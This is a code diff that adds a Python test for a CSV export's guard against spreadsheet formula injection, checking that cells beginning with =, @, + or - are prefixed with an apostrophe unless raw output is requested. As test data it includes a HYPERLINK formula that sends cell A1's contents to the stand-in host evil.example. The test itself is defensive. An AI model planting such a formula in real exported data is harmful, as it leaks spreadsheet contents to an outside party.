@@ -135,3 +135,18 @@ def test_small_batches_and_an_empty_history(app):
     assert "".join(t for _, t in csv_chunks(app, gate_cell=gate_cell, batch=1)) == by_csv_writer(app)
 
 
+
+
+def test_the_export_quotes_would_be_formulas_and_raw_keeps_them(app, aanpak):
+    """Issue 15: text cells a spreadsheet would run get a ' in front; raw=True (--raw-csv) writes them as stored."""
+    with app.db.write() as conn:
+        conn.execute(sa.text("UPDATE aanpak SET wijk = :w WHERE slug = :s"), {"w": "=1+1", "s": aanpak})
+        raw_event(conn, "2026-12-31 23:45:00.000000", reason='=HYPERLINK("http://evil.example/?"&A1,"klik")',
+                  evidence="-3.5", from_phase="@x", to_phase="+y", type="-z")
+    safe = list(csv.reader(io.StringIO(by_chunks(app))))
+    raw = list(csv.reader(io.StringIO("".join(t for _, t in csv_chunks(app, gate_cell=gate_cell, raw=True)))))
+    assert len(safe) == len(raw)
+    changed = {(s, r) for srow, rrow in zip(safe, raw, strict=True) for s, r in zip(srow, rrow, strict=True) if s != r}
+    assert changed == {("'=1+1", "=1+1"), ("'@x", "@x"), ("'+y", "+y"), ("'-z", "-z"),
+                       ("'" + '=HYPERLINK("http://evil.example/?"&A1,"klik")', '=HYPERLINK("http://evil.example/?"&A1,"klik")')}
+    assert ["-3.5"] == [c for row in safe for c in row if c == "-3.5"]  # a plain number stays a number
